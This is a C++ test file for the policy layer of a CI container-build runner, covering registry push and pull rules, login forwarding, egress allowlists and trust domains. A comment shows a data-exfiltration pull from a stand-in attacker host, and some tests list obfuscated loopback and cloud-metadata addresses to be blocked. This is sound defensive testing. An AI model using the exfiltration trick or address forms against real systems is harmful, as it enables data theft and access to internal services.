// SPDX-License-Identifier: Apache-2.0
#include "executor/egress/learned.hpp"
#include "executor/policy/policy.hpp"

#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>

namespace slipway::policy {
namespace {

config::Config with_registry() {
  config::Config config;
  config::Registry registry;
  registry.host = "reg:5000";
  config.registries.push_back(registry);
  return config;
}

oci::Reference reference(const char* text) {
  return *oci::Reference::parse(text);
}

TEST(Policy, ARuleChangesWhatAttacksBlock) {
  auto config = with_registry();
  config.gate.epss_file = "/e.csv";
  config.gate.epss_threshold = 0.5;
  ASSERT_TRUE(config::parse_policy("[[rule]]\nproject = \"grp/*\"\nkev_blocks = false\n"
                                   "kev_spared = true\nepss_threshold = 0.25\n"
                                   "cvss_threshold = 9.0\n",
                                   "p", config));

  const auto changed = effective_for(config, {"grp/app", false}).gate;
  EXPECT_FALSE(changed.kev_blocks);
  EXPECT_TRUE(changed.kev_spared);
  EXPECT_EQ(changed.epss_threshold, 0.25);
  EXPECT_EQ(changed.cvss_threshold, 9);
  const auto others = effective_for(config, {"other/app", false}).gate;
  EXPECT_TRUE(others.kev_blocks);
  EXPECT_EQ(others.epss_threshold, 0.5);
}
TEST(Policy, ARulesVexDocumentsStandInPlaceOfTheOthers) {
  auto config = with_registry();
  config.gate.vex_files = {"/a.json"};
  config.gate.vex_keys = {"/k.pub"};
  ASSERT_TRUE(config::parse_policy("[[rule]]\nproject = \"grp/*\"\nvex_files = [\"/b.json\"]\n"
                                   "[[rule]]\nproject = \"none/*\"\nvex_files = []\n",
                                   "p", config));

  const auto changed = effective_for(config, {"grp/app", false}).gate;
  EXPECT_EQ(changed.vex_files, std::vector<std::string>{"/b.json"});
  EXPECT_EQ(changed.vex_keys, std::vector<std::string>{"/k.pub"});
  EXPECT_TRUE(effective_for(config, {"none/app", false}).gate.vex_files.empty());
  EXPECT_EQ(effective_for(config, {"other/app", false}).gate.vex_files,
            std::vector<std::string>{"/a.json"});
}
TEST(Policy, FirstMatchingRuleDecides) {
  auto config = with_registry();
  ASSERT_TRUE(config::parse_policy(
      "[[rule]]\nproject = \"grp/*\"\nprotected = true\nthreshold = \"critical\"\n"
      "[[rule]]\nproject = \"*\"\nthreshold = \"low\"\n",
      "p", config));

  EXPECT_EQ(effective_for(config, {"grp/app", true}).gate.threshold, "critical");
  EXPECT_EQ(effective_for(config, {"grp/app", false}).gate.threshold, "low");
  EXPECT_EQ(effective_for(config, {"other/app", true}).gate.threshold, "low");
}

TEST(Policy, ARuleIsForTheSourcesAndRunnersThatItNames) {
  auto config = with_registry();
  config.identity.issuer = "https://gitlab.example";
  config.identity.required = true;
  ASSERT_TRUE(config::parse_policy(
      "[[rule]]\nsource = [\"merge_request_event\", \"schedule\"]\nthreshold = \"low\"\n"
      "[[rule]]\nrunner_tag = [\"lab\", \"try\"]\nthreshold = \"critical\"\n"
      "[[rule]]\nthreshold = \"medium\"\n",
      "p", config));
  const auto threshold = [&](const std::string& source, const std::vector<std::string>& tags) {
    return effective_for(config, {"grp/app", true, 1, source, tags}).gate.threshold;
  };

  EXPECT_EQ(threshold("merge_request_event", {}), "low");
  EXPECT_EQ(threshold("schedule", {"try"}), "low");
  EXPECT_EQ(threshold("push", {"fast", "try"}), "critical");
  EXPECT_EQ(threshold("push", {"production"}), "medium");
  EXPECT_EQ(threshold("", {}), "medium") << "what is not known is none of them";
}

TEST(Policy, ARuleIsForTheRefsThatItNames) {
  auto config = with_registry();
  ASSERT_TRUE(config::parse_policy(
      "[[rule]]\nref = \"refs/tags/v*\"\nthreshold = \"critical\"\n"
      "[[rule]]\nref = [\"main\", \"refs/heads/release/*\"]\nthreshold = \"high\"\n"
      "[[rule]]\nref = \"refs/merge-requests/*\"\nthreshold = \"medium\"\n"
      "[[rule]]\nthreshold = \"low\"\n",
      "p", config));
  const auto threshold = [&](const std::string& ref, const std::string& type) {
    const Subject subject{"grp/app", true, 1, "", {}, full_ref_of_job(ref, type)};
    return effective_for(config, subject).gate.threshold;
  };

  EXPECT_EQ(threshold("v1.2", "tag"), "critical");
  EXPECT_EQ(threshold("main", "branch"), "high");
  EXPECT_EQ(threshold("release/2", "branch"), "high") << "in full is a branch, too";
  EXPECT_EQ(threshold("refs/merge-requests/7/head", "branch"), "medium");
  EXPECT_EQ(threshold("v1.2", "branch"), "low");
  EXPECT_EQ(threshold("main", "tag"), "low");
}

TEST(Policy, ABranchThatIsNamedLikeATagIsNone) {
  auto config = with_registry();
  const auto matches = [&](const std::string& rule, const std::string& ref,
                           const std::string& type) {
    config.rules.clear();
    EXPECT_TRUE(config::parse_policy("[[rule]]\nref = \"" + rule + "\"\n", "p", config));
    const Subject subject{"grp/app", true, 1, "", {}, full_ref_of_job(ref, type)};
    return !effective_for(config, subject).rule.empty();
  };

  EXPECT_FALSE(matches("refs/tags/*", "refs/tags/v1", "branch"));
  EXPECT_TRUE(matches("refs/tags/*", "v1", "tag")) << "the control: the tag";
  EXPECT_TRUE(matches("refs/heads/refs/tags/*", "refs/tags/v1", "branch")) << "its own name";
  EXPECT_FALSE(matches("main", "refs/heads/main", "branch")) << "refs/heads/refs/heads/main";
  EXPECT_FALSE(matches("refs/merge-requests/*", "refs/merge-requests/7/head", "tag"));
}

TEST(Policy, AJobWhoseRefIsNotKnownIsOfNoRuleThatNamesOne) {
  auto config = with_registry();
  ASSERT_TRUE(config::parse_policy("[[rule]]\nref = [\"*\", \"refs/*\"]\n", "p", config));

  EXPECT_EQ(effective_for(config, {"grp/app", true}).rule, "");
  EXPECT_EQ(full_ref_of_job("", "tag"), "");
  EXPECT_EQ(full_ref_of_job("main", ""), "");
  EXPECT_EQ(full_ref_of_job("main", "note"), "");
}

TEST(Policy, ARecordKeepsWhomThePolicyIsAbout) {
  state::JobRecord record;
  record.project = "grp/app";
  record.project_id = 7;
  record.ref_protected = true;
  record.pipeline_source = "web";
  record.runner_tags = {"lab"};
  record.full_ref = "refs/tags/v1";

  const auto subject = subject_of(*state::parse_record(state::to_json(record)));

  EXPECT_EQ(subject.project, "grp/app");
  EXPECT_EQ(subject.project_id, 7);
  EXPECT_TRUE(subject.ref_protected);
  EXPECT_EQ(subject.source, "web");
  EXPECT_EQ(subject.runner_tags, std::vector<std::string>{"lab"});
  EXPECT_EQ(subject.ref, "refs/tags/v1");
}

TEST(Policy, BuildsAreForThePlatformsOfTheRule) {
  Effective effective;
  EXPECT_TRUE(admit_platforms(effective, {"linux/s390x"})) << "none is named";
  effective.rule = "p:1";
  effective.platforms = {"linux/amd64", "linux/arm64"};

  EXPECT_TRUE(admit_platforms(effective, {}));
  EXPECT_TRUE(admit_platforms(effective, {"linux/amd64", "linux/arm64/v8"}));
  const auto denied = admit_platforms(effective, {"linux/amd64", "linux/s390x"});
  ASSERT_FALSE(denied);
  EXPECT_EQ(denied.error().kind, ErrorKind::denied);
  EXPECT_NE(denied.error().what.find("linux/s390x (rule p:1)"), std::string::npos);
}

TEST(Policy, SignsWhereThereIsAKeyAndNoRuleSaysOtherwise) {
  config::Config config;
  ASSERT_TRUE(config::parse_policy("[[rule]]\nproject = \"off/*\"\nsign = false\n"
                                   "[[rule]]\nproject = \"on/*\"\nsign = true\n",
                                   "p.toml", config));
  EXPECT_FALSE(effective_for(config, {"grp/app", false}).sign);
  EXPECT_TRUE(effective_for(config, {"on/app", false}).sign);

  config.signing.key_file = "/etc/slipway/signing.pem";

  EXPECT_TRUE(effective_for(config, {"grp/app", false}).sign);
  EXPECT_FALSE(effective_for(config, {"off/app", false}).sign);
}

TEST(Policy, ARulesLeakExemptionsReplaceThoseOfTheGate) {
  auto config = with_registry();
  config.gate.leak_exempt = {"A"};
  ASSERT_TRUE(config::parse_policy("[[rule]]\nproject = \"grp/*\"\nleak_exempt = [\"B\"]\n"
                                   "[[rule]]\nproject = \"none/*\"\nleak_exempt = []\n",
                                   "p", config));

  EXPECT_EQ(effective_for(config, {"grp/app"}).gate.leak_exempt, std::vector<std::string>{"B"});
  EXPECT_TRUE(effective_for(config, {"none/app"}).gate.leak_exempt.empty());
  EXPECT_EQ(effective_for(config, {"other"}).gate.leak_exempt, std::vector<std::string>{"A"});
}

TEST(Policy, ARuleOpensTheRegistryEndpointAndLetsArtifactsPass) {
  auto config = with_registry();
  ASSERT_TRUE(config::parse_policy("[[rule]]\nproject = \"grp/*\"\nregistry_endpoint = true\n"
                                   "artifacts = [\"application/vnd.example.sbom+json\"]\n",
                                   "p", config));

  EXPECT_TRUE(effective_for(config, {"grp/app"}).registry_endpoint);
  EXPECT_EQ(effective_for(config, {"grp/app"}).gate.artifacts.size(), 1U);
  EXPECT_FALSE(effective_for(config, {"other/app"}).registry_endpoint);
  EXPECT_TRUE(effective_for(config, {"other/app"}).gate.artifacts.empty());
}

TEST(Policy, ARuleForbidsToTakeImagesOutAsFiles) {
  auto config = with_registry();
  ASSERT_TRUE(config::parse_policy("[[rule]]\nproject = \"grp/*\"\nsave = false\n"
                                   "[[rule]]\nproject = \"open/*\"\nsave = true\n",
                                   "p", config));
  const auto admitted = [&](const char* project) {
    return admit_save(effective_for(config, {project}), {project});
  };

  const auto refused = admitted("grp/app");
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().kind, ErrorKind::denied);
  EXPECT_EQ(refused.error().what,
            "policy does not let project 'grp/app' take images out as files (save = false in rule "
            "p:1)");
  EXPECT_NE(refused.error().hint.find("save = true"), std::string::npos);
  EXPECT_TRUE(admitted("open/app"));
  EXPECT_TRUE(admitted("other/app"));
}

TEST(Policy, ALoginIsForwardedToARegistryThatNoEntryNamesUnlessARuleSaysNo) {
  config::Config config;
  config.registries.push_back({});
  config.registries.back().host = "reg.example:5000";
  config.registries.back().credential = "operator";
  Effective effective;

  EXPECT_EQ(*admit_login(config, effective, "reg.example:5000"), std::nullopt);
  EXPECT_EQ(*admit_login(config, effective, "https://Other.example/v1/"), "other.example");
  EXPECT_EQ(*admit_login(config, effective, ""), "docker.io");

  // Else the host's own network would be asked for what was judged as Docker Hub's.
  for (const auto* host : {"intranet", "intranet:0x", "a b.example", "-.example:99999999"})
    EXPECT_FALSE(admit_login(config, effective, host)) << host;
  EXPECT_FALSE(admit_login(config, effective, "localhost"));
  EXPECT_FALSE(admit_login(config, effective, "127.0.0.1:5000"));

  effective.forward_logins = false;
  effective.rule = "p.toml:3";
  EXPECT_EQ(*admit_login(config, effective, "reg.example:5000"), std::nullopt);
  const auto refused = admit_login(config, effective, "other.example");
  ASSERT_FALSE(refused);
  EXPECT_EQ(refused.error().kind, ErrorKind::denied);
  EXPECT_EQ(refused.error().what,
            "slipway does not broker 'other.example', and logins of these jobs are not forwarded "
            "(forward_logins = false in rule p.toml:3)");
}

TEST(Policy, ALoginWhereTheJobCanDoNothingIsRefused) {
  config::Config config;
  config.registries.push_back({});
  config.registries.back().host = "reg.example:5000";
  config.registries.back().credential = "operator";
  const auto refused = [&](std::string_view server, const Effective& effective = {}) {
    const auto admitted = admit_login(config, effective, server);
    return admitted ? std::string{} : admitted.error().what;
  };

  // The default fetches whatever is asked for.
  for (const auto* server :
       {"reg.example:5000", "other.example", "", "https://index.docker.io/v1/"})
    EXPECT_EQ(refused(server), "") << server;

  config.buildkit.allowed_bases = {"reg.example:5000/base/*", "?.internal.example/*"};
  EXPECT_EQ(refused("https://reg.example:5000/v2/"), "");
  EXPECT_EQ(refused("a.internal.example"), "");
  config.buildkit.allowed_bases.emplace_back("hub.example:443/*"); // as GitLab's dependency proxy
  EXPECT_EQ(refused("hub.example:443"), "");
  EXPECT_EQ(refused("hub.example"), "");
  config.buildkit.allowed_bases.pop_back();
  EXPECT_EQ(refused("other.example"),
            "a login for 'other.example' is of no use: this job may not push there (no "
            "[[registry]] entry has this host), nor is anything pulled from there (allowed_bases "
            "in [buildkit] names none there)");
  for (const auto* hub : {"", "docker.io", "https://index.docker.io/v1/", "registry-1.docker.io"})
    EXPECT_NE(refused(hub).find("a login for 'docker.io' is of no use"), std::string::npos) << hub;
  for (const auto* glob : {"alpine:*", "library/*", "docker.io/me/*", "*"}) {
    config.buildkit.allowed_bases = {glob};
    EXPECT_EQ(refused("docker.io"), "") << glob;
  }

  // Of a registry that is brokered: what keeps the job from pushing there.
  config.buildkit.allowed_bases = {"debian:*"};
  EXPECT_EQ(refused("reg.example:5000"), "");
  Effective rule;
  rule.rule = "p.toml:3";
  rule.push = false;
  EXPECT_NE(refused("reg.example:5000", rule).find("(push = false in rule p.toml:3)"),
            std::string::npos);
  rule.push = true;
  rule.repositories = {"elsewhere.example/*"};
  EXPECT_NE(refused("reg.example:5000", rule).find("(repositories in rule p.toml:3 name none"),
            std::string::npos);
  rule.repositories = {"*/grp/*"};
  EXPECT_EQ(refused("reg.example:5000", rule), "");
  config.registries.back().push = false;
  EXPECT_NE(refused("reg.example:5000", rule).find("push = false in its [[registry]] entry"),
            std::string::npos);
  config.buildkit.allowed_bases = {"*"};
  EXPECT_EQ(refused("reg.example:5000", rule), "");

  // What is never fetched, whatever the globs say.
  EXPECT_NE(refused("localhost:5000").find("an address of the runner itself"), std::string::npos);
  rule.egress.mode = "none";
  EXPECT_NE(refused("other.example", rule).find("the job's network is closed to it"),
            std::string::npos);
  EXPECT_EQ(refused("reg.example:5000", rule), "");
  rule.egress.mode = "allowlist";
  rule.egress.allow = {"other.example"};
  EXPECT_EQ(refused("other.example", rule), "");
}

TEST(Policy, KnowsWhereClientsLookForARegistry) {
  const auto contact = [](const char* host, bool plain = false, bool push = true) {
    config::Registry registry;
    registry.host = host;
    registry.plain_http = plain;
    registry.push = push;
    return contact_of(registry);
  };

  EXPECT_EQ(contact("reg.example:5000")->port, 5000);
  EXPECT_EQ(contact("reg.example")->port, 443);
  EXPECT_EQ(contact("reg.example", true)->port, 80);
  EXPECT_EQ(contact("docker.io")->names.back(), "registry-1.docker.io");
  for (const char* nowhere : {"10.0.0.1:5000", "[fd00::1]:5000", "localhost:5000", "127.0.0.1",
                              "reg.example:0", "reg.example:70000", "reg.example:x"})
    EXPECT_FALSE(contact(nowhere)) << nowhere;
  EXPECT_FALSE(contact("reg.example", false, false)) << "nobody pushes there";

  EXPECT_TRUE(contact("reg.example:5000")->is_meant_by("REG.example:5000"));
  EXPECT_FALSE(contact("reg.example:5000")->is_meant_by("reg.example"));
  EXPECT_FALSE(contact("reg.example:5000")->is_meant_by("reg.example:5000:1"));
  EXPECT_TRUE(contact("reg.example")->is_meant_by("reg.example"));
  EXPECT_TRUE(contact("reg.example")->is_meant_by("reg.example:443"));
  EXPECT_TRUE(contact("reg.example", true)->is_meant_by("reg.example"));
  EXPECT_FALSE(contact("reg.example")->is_meant_by("other.example"));
  EXPECT_FALSE(contact("reg.example")->is_meant_by(""));
}

TEST(Policy, ARulesEgressReplacesTheDefaultKeyByKey) {
  auto config = with_registry();
  config.sandbox.egress.allow = {"a.example"};
  ASSERT_TRUE(config::parse_policy("[[rule]]\nproject = \"list/*\"\negress = \"allowlist\"\n"
                                   "[[rule]]\nproject = \"own/*\"\negress = \"allowlist\"\n"
                                   "egress_allow = [\"b.example\"]\negress_learn = true\n",
                                   "p", config));

  EXPECT_EQ(effective_for(config, {"other/app"}).egress.mode, "open-except-registries");
  EXPECT_EQ(effective_for(config, {"list/app"}).egress.allow,
            std::vector<std::string>{"a.example"});
  EXPECT_EQ(effective_for(config, {"own/app"}).egress.allow, std::vector<std::string>{"b.example"});
  EXPECT_TRUE(effective_for(config, {"own/app"}).egress.learn);
}

TEST(Policy, ARuleThatClosesDoesNotLearnByAnothersWord) {
  auto config = with_registry();
  config.sandbox.egress = {"allowlist", {"a.example"}, true};
  ASSERT_TRUE(config::parse_policy("[[rule]]\nproject = \"none/*\"\negress = \"none\"\n"
                                   "[[rule]]\nproject = \"list/*\"\negress = \"allowlist\"\n"
                                   "egress_allow = [\"b.example\"]\n",
                                   "p", config));

  EXPECT_FALSE(effective_for(config, {"none/app"}).egress.learn);
  EXPECT_FALSE(effective_for(config, {"list/app"}).egress.learn);
  EXPECT_TRUE(effective_for(config, {"other/app"}).egress.learn) << "control";
}

class FetchTest : public testing::Test {
protected:
  void SetUp() override {
    std::string pattern = testing::TempDir() + "fetch-XXXXXX";
    ASSERT_NE(::mkdtemp(pattern.data()), nullptr);
    config_.slipway.state_dir = pattern;
  }
  void TearDown() override { std::filesystem::remove_all(config_.slipway.state_dir); }

  bool may(const char* image) const {
    return admit_fetch(config_, effective_for(config_, {"grp/app"}), {"grp/app"}, reference(image))
        .ok();
  }
  config::Config config_ = with_registry();
};

// A name is enough to carry data out: `docker pull evil.example/SECRET`.
TEST_F(FetchTest, OutOfAClosedNetworkOnlyFromRegistriesAndWhatIsListed) {
  config_.sandbox.egress = {
      "allowlist", {"listed.example", "port.example:5000", "*.below.example"}, false};

  EXPECT_TRUE(may("reg:5000/base:1"));
  EXPECT_TRUE(may("listed.example/base:1"));
  EXPECT_TRUE(may("port.example:5000/base:1"));
  EXPECT_TRUE(may("x.below.example/base:1"));
  EXPECT_FALSE(may("port.example/base:1"));
  EXPECT_FALSE(may("evil.example/secret:1"));
  EXPECT_FALSE(may("alpine:3")) << "Docker Hub is a host like any other";
  EXPECT_FALSE(may("10.0.0.5:8443/a:1"));

  config_.sandbox.egress.mode = "none";

  EXPECT_FALSE(may("listed.example/base:1"));
  EXPECT_TRUE(may("reg:5000/base:1"));

  config_.sandbox.egress.mode = "open-except-registries";

  EXPECT_TRUE(may("evil.example/secret:1")) << "control";
}

TEST_F(FetchTest, WhileARuleLearnsTheHostIsWrittenDown) {
  config_.sandbox.egress = {"allowlist", {}, true};

  EXPECT_TRUE(may("new.example:5000/base:1"));

  const auto known = egress::learned(learned_dir(config_), "grp/app");
  ASSERT_TRUE(known.ok());
  ASSERT_EQ(known->size(), 1U);
  EXPECT_EQ(known->front().str(), "new.example:5000");
}

TEST_F(FetchTest, WhoOnlyAsksLeavesNothingWrittenDown) {
  config_.sandbox.egress = {"allowlist", {}, true};
  const auto effective = effective_for(config_, {"grp/app"});

  EXPECT_TRUE(may_fetch(config_, effective, reference("new.example:5000/base:1")));
  EXPECT_TRUE(may_pull(config_, effective, reference("new.example:5000/base:1")));

  const auto known = egress::learned(learned_dir(config_), "grp/app");
  EXPECT_TRUE(!known || known->empty());
}

TEST_F(FetchTest, WhatIsPulledMayNotBeTheRunnerItself) {
  const auto why = [&](const char* image) {
    const auto may = may_pull(config_, effective_for(config_, {"grp/app"}), reference(image));
    return may ? std::string{} : may.error().what;
  };
  for (const char* image : {"localhost:5000/x", "127.0.0.1:9200/x", "169.254.169.254/x"})
    EXPECT_NE(why(image).find("an address of the runner itself"), std::string::npos) << image;
  EXPECT_EQ(why("reg:5000/x"), "");
  config::Registry own;
  own.host = "localhost:5000";
  config_.registries.push_back(own);
  EXPECT_EQ(why("localhost:5000/x"), "") << "the operator's own word";
  config_.buildkit.allowed_bases = {"debian:*"};
  EXPECT_NE(why("reg:5000/x").find("base image"), std::string::npos);
}

TEST_F(FetchTest, ConnectionsAreToNoRegistryAndToWhatTheNetworkLeavesOpen) {
  const auto why = [&](const char* where) {
    const auto may =
        may_connect(config_, effective_for(config_, {"grp/app"}), *egress::Target::parse(where));
    return may ? std::string{} : may.error().what;
  };
  EXPECT_EQ(why("pypi.example:22"), "");
  EXPECT_EQ(why("reg:443"), "reg:5000 is a registry of slipway's") << "by its name, at any port";
  config_.sandbox.egress = {"allowlist", {"pypi.example"}, false};
  EXPECT_EQ(why("pypi.example:443"), "");
  EXPECT_EQ(why("pypi.example:22"), "egress is \"allowlist\"");
  config_.sandbox.egress.learn = true;
  EXPECT_EQ(why("pypi.example:22"), "") << "the proxy lets all pass, and learns";
  EXPECT_EQ(why("reg:443"), "reg:5000 is a registry of slipway's");
  config_.sandbox.egress = {"none", {}, false};
  EXPECT_EQ(why("pypi.example:443"), "egress is \"none\"");
  config_.sandbox.block_registries = false;
  config_.sandbox.egress = {};
  EXPECT_EQ(why("reg:443"), "");
}

TEST(Policy, PushToUnknownRegistryIsDeniedNamingTheKey) {
  const auto config = with_registry();
  const Subject subject{"grp/app", false};

  const auto denied =
      admit_push(config, effective_for(config, subject), subject, reference("docker.io/x/y:1"));

  ASSERT_FALSE(denied);
  EXPECT_EQ(denied.error().kind, ErrorKind::denied);
  EXPECT_NE(denied.error().hint.find("[[registry]]"), std::string::npos);
}

TEST(Policy, PushOutsideTheRulesRepositoriesIsDenied) {
  auto config = with_registry();
  ASSERT_TRUE(
      config::parse_policy("[[rule]]\nrepositories = [\"reg:5000/grp/*\"]\n", "p.toml", config));
  const Subject subject{"grp/app", false};
  const auto effective = effective_for(config, subject);

  EXPECT_TRUE(admit_push(config, effective, subject, reference("reg:5000/grp/app:1")));
  const auto denied = admit_push(config, effective, subject, reference("reg:5000/else/app:1"));
  ASSERT_FALSE(denied);
  EXPECT_NE(denied.error().what.find("rule p.toml:1"), std::string::npos) << denied.error().what;
}

TEST(Policy, StaticCredentialIsForJobsWhoseRuleNamesIt) {
  auto config = with_registry();
  config.registries[0].credential = "issuer";
  config.registries[0].issuer = "old";
  config.credentials.push_back({"old", "static", {}});
  ASSERT_TRUE(config::parse_policy(
      "[[rule]]\nproject = \"grp/old\"\nstatic_credentials = [\"old\"]\n", "p.toml", config));
  const auto push = [&](const std::string& project) {
    const Subject subject{project, true};
    return admit_push(config, effective_for(config, subject), subject,
                      reference(("reg:5000/" + project + ":1").c_str()));
  };

  EXPECT_TRUE(push("grp/old"));
  const auto denied = push("grp/app");
  ASSERT_FALSE(denied);
  EXPECT_EQ(denied.error().kind, ErrorKind::denied);
  EXPECT_NE(denied.error().hint.find("static_credentials = [\"old\"]"), std::string::npos);
  config.credentials[0] = {"old", "vault", {{"engine", "kv2"}}};
  EXPECT_FALSE(push("grp/app")) << "a password that somebody wrote into KV";
  config.credentials[0].settings["engine"] = "dynamic";
  EXPECT_TRUE(push("grp/app"));
  EXPECT_FALSE(admit_push(config, effective_for(config, {"grp/app", true}), {"grp/app", true},
                          reference("reg:5000/else/app:1")))
      << "an issuer's credential outside the project's own path";
}

TEST(Policy, TheOwnPathOfAProjectWithCapitalsHasNone) {
  auto config = with_registry();
  config.registries[0].credential = "operator";
  const Subject subject{"Grp/My.App", false};
  const auto effective = effective_for(config, subject);

  EXPECT_TRUE(admit_push(config, effective, subject, reference("reg:5000/grp/my.app/web:1")));
  EXPECT_FALSE(admit_push(config, effective, subject, reference("reg:5000/grp/app:1")));
}

TEST(Policy, OperatorCredentialPushesToTheProjectsOwnPathOnly) {
  auto config = with_registry();
  config.registries[0].credential = "operator";
  const Subject subject{"grp/app", false};
  const auto effective = effective_for(config, subject);

  EXPECT_TRUE(admit_push(config, effective, subject, reference("reg:5000/grp/app:1")));
  EXPECT_TRUE(admit_push(config, effective, subject, reference("reg:5000/grp/app/web:1")));
  for (const char* other : {"reg:5000/grp/app2:1", "reg:5000/grp:1", "reg:5000/other/grp/app:1"}) {
    const auto denied = admit_push(config, effective, subject, reference(other));
    ASSERT_FALSE(denied) << other;
    EXPECT_NE(denied.error().what.find("may push to 'reg:5000/grp/app' and below"),
              std::string::npos)
        << denied.error().what;
  }
}

TEST(Policy, OperatorCredentialPullsWhatMayBePushedOrIsOpened) {
  auto config = with_registry();
  config.registries[0].credential = "operator";
  config.registries[0].pull = {"reg:5000/base/*"};
  const Subject subject{"grp/app", false};
  const auto effective = effective_for(config, subject);

  EXPECT_TRUE(operator_may_pull(config, effective, subject, reference("reg:5000/grp/app:1")));
  EXPECT_TRUE(operator_may_pull(config, effective, subject, reference("reg:5000/base/debian:12")));
  EXPECT_FALSE(operator_may_pull(config, effective, subject, reference("reg:5000/secret/app:1")));
}

TEST(Policy, ATagNeverStandsInForARepository) {
  auto config = with_registry();
  config.registries[0].credential = "operator";
  config.registries[0].pull = {"reg:5000/*-base"};
  ASSERT_TRUE(config::parse_policy("[[rule]]\nrepositories = [\"reg:5000/grp/*-app\"]\n", "p.toml",
                                   config));
  const Subject subject{"grp/x", false};
  const auto effective = effective_for(config, subject);

  EXPECT_TRUE(admit_push(config, effective, subject, reference("reg:5000/grp/my-app:1")));
  EXPECT_FALSE(admit_push(config, effective, subject, reference("reg:5000/grp/secret:my-app")));
  EXPECT_TRUE(operator_may_pull(config, effective, subject, reference("reg:5000/go-base:1")));
  EXPECT_FALSE(operator_may_pull(config, effective, subject, reference("reg:5000/secret:go-base")));
}

TEST(Policy, PushFalseForbids) {
  auto config = with_registry();
  ASSERT_TRUE(
      config::parse_policy("[[rule]]\nprotected = false\npush = false\n", "p.toml", config));

  const Subject open{"grp/app", false};
  const Subject closed{"grp/app", true};
  EXPECT_FALSE(admit_push(config, effective_for(config, open), open, reference("reg:5000/a:1")));
  EXPECT_TRUE(admit_push(config, effective_for(config, closed), closed, reference("reg:5000/a:1")));
}

TEST(Policy, ImagesOutsideTheListAreDenied) {
  config::Config config;
  config.gitlab.allowed_images = {"debian:*", "reg:5000/ci/*"};

  EXPECT_TRUE(admit_image(config, reference("debian:12")));
  EXPECT_TRUE(admit_image(config, reference("reg:5000/ci/tools:1")));
  const auto denied = admit_image(config, reference("alpine"));
  ASSERT_FALSE(denied);
  EXPECT_EQ(denied.error().what, "this runner does not allow the job image 'alpine:latest'");
}

TEST(Policy, AddressesOfTheMachineItselfAreLocal) {
  for (const char* host :
       {"localhost", "localhost:5000", "127.0.0.1:6443", "127.1:80", "169.254.169.254", "0.0.0.0:1",
        "2130706433", "0x7f.1", "[::1]:443", "[FE80::1]", "[::ffff:127.0.0.1]:1", "x.localhost"}) {
    EXPECT_TRUE(is_local_host(host)) << host;
  }
  for (const char* host :
       {"registry.example", "10.0.0.1:5000", "docker.io", "[2001:db8::5]:443", "127.example"}) {
    EXPECT_FALSE(is_local_host(host)) << host;
  }
}

TEST(Policy, ProtectedRefsAreATrustDomainOfTheirOwn) {
  const Effective none;
  EXPECT_NE(trust_domain({"grp/app", true}, none), trust_domain({"grp/app", false}, none));
  EXPECT_NE(trust_domain({"grp/app", true}, none), trust_domain({"grp/other", true}, none));
  EXPECT_NE(trust_domain({"grp/app", true, 3}, none), trust_domain({"grp/app", true, 4}, none))
      << "the path of a project that was deleted can be taken by another";
}

TEST(Policy, BuildersOfClosedNetworksAreSharedByThoseWhoMayConnectToTheSame) {
  const auto of = [](const char* mode, std::vector<std::string> allow, bool learn = false) {
    Effective effective;
    effective.egress.mode = mode;
    effective.egress.allow = std::move(allow);
    effective.egress.learn = learn;
    return builder_domain({"grp/app", true, 3}, effective);
  };
  const auto listed = of("allowlist", {"a.example", "b.example"});

  EXPECT_EQ(listed, of("allowlist", {"a.example", "b.example"}));
  EXPECT_NE(listed, of("allowlist", {"a.example"}));
  EXPECT_NE(listed, of("allowlist", {"a.example", "b.example"}, true)) << "lets everything pass";
  EXPECT_NE(listed, of("none", {"a.example", "b.example"}));
  EXPECT_EQ(of("open-except-registries", {"x.example"}), trust_domain({"grp/app", true, 3}, {}))
      << "no proxy";
}

TEST(Policy, ACacheDomainOnlySetsApart) {
  const Effective none;
  Effective apart;
  apart.cache_domain = "merge-requests";

  EXPECT_NE(trust_domain({"grp/app", true}, apart), trust_domain({"grp/app", true}, none));
  EXPECT_EQ(trust_domain({"grp/app", true}, apart), trust_domain({"grp/app", true}, apart));
  EXPECT_NE(trust_domain({"grp/app", true}, apart), trust_domain({"grp/other", true}, apart));
  EXPECT_NE(trust_domain({"grp/app", true}, apart), trust_domain({"grp/app", false}, apart));
}

} // namespace
} // namespace slipway::policy
